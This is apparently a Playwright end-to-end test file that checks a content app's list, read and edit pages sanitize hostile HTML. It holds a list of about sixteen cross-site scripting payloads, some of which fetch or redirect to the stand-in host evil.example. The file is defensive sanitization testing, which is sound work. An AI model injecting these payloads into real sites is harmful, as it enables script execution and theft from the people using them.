import { expect, type Page } from '@playwright/test'
import { test } from '../fixtures.ts'
import { locateBodyField, locateContentRows, storeItem } from '../support/content.ts'
import { signIn } from '../support/people.ts'

const act = 'globalThis.hacked=1;alert(1);fetch(`https://evil.example/`)'

/** Known injection techniques. */
const hostile = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<a href="javascript:${act}">link</a>`,
  `<a href=" &#1;JaVa&#9;ScRiPt&colon;${act}">spelled otherwise</a>`,
  `<a href="data:text/html,<script>${act}</script>">data</a>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${act}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<form><button formaction="javascript:${act}">press</button></form>`,
  `<p style="background:url(https://evil.example/)" onclick="${act}" tabindex=0 autofocus onfocus="${act}">styled</p>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  `<span data-type="math" data-latex="\\href{javascript:${act}}{x}"></span>`,
  `<span data-type="math" data-latex="\\htmlData{x=y}{\\includegraphics{https://evil.example/x.png}}"></span>`,
  `<details open ontoggle="${act}">details</details><video><source onerror="${act}"></video>`,
]

/** A language in which no other journey lists items. */
const language = 'zh-CN'

async function expectNothingRan(page: Page) {
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
  expect(await page.evaluate(() => Reflect.has(globalThis, 'hacked'))).toBe(false)
  const code = page.locator(
    'main script, main [onerror], main [onload], main [onclick], main [href^="javascript" i], main [href^="data" i], main iframe',
  )
  await expect(code).toHaveCount(0)
}

test('runs no scripts from hostile titles and texts in the list, page, editor and trash', async ({ page, t }) => {
  test.slow()
  page.on('dialog', (dialog) => {
    expect(`a dialog opened: ${dialog.message()}`).toBe('')
  })
  // Tall enough to show all rows, because only rows near the viewport are in the DOM.
  await page.setViewportSize({ width: 1280, height: 3000 })
  await signIn(page, 'editor')
  const ids: number[] = []
  for (const html of hostile)
    ids.push(await storeItem(page, { title: `hostile ${html}`, body: `<p>before</p>${html}`, language }))
  const all = await storeItem(page, { title: 'hostile all', body: hostile.join('\n'), language })

  await page.goto(`/content/list?q=hostile&language=${language}`)
  await expect(locateContentRows(page, t).first()).toBeVisible()
  await page.waitForLoadState('networkidle')
  await expectNothingRan(page)

  const heading = page.getByRole('heading', { level: 1, name: /hostile/ })
  for (const id of [...ids, all]) {
    await locateContentRows(page, t).locator(`a[href="/content/read?id=${id}"]`).click()
    await expect(heading).toBeVisible()
    await expectNothingRan(page)
    await page.goBack()
  }
  await page.goto(`/content/read?id=${all}`)
  await expect(heading).toBeVisible()
  await expectNothingRan(page)
  // Edit only this item, because the server sanitizes every item on save (`apps/server/test/content-hostile.test.ts`).
  await page.goto(`/content/edit?id=${all}`)
  await expect(locateBodyField(page, t)).toBeVisible()
  await expectNothingRan(page)
})

test('sanitizes hostile HTML that the server returns', async ({ page, t }) => {
  const item = {
    id: 7,
    title: `hostile ${hostile.slice(0, 4).join('')}`,
    body: hostile.join('\n'),
    language: 'en',
    author_id: null,
    author_name: null,
    updated_at: '2026-11-20T09:00:00.000Z',
    created_at: '2026-11-20T09:00:00.000Z',
    deleted_at: null,
    version: 1,
  }
  await page.route(/content\.list/, (route) => route.fulfill({ json: [{ result: { data: [item] } }] }))
  await page.route(/content\.get/, (route) => route.fulfill({ json: [{ result: { data: item } }] }))
  await page.goto('/content/list')
  await expect(locateContentRows(page, t)).toHaveCount(1)
  await expectNothingRan(page)
  await page.goto('/content/read?id=7')
  await expect(page.getByRole('heading', { level: 1, name: /hostile/ })).toBeVisible()
  await expectNothingRan(page)
})
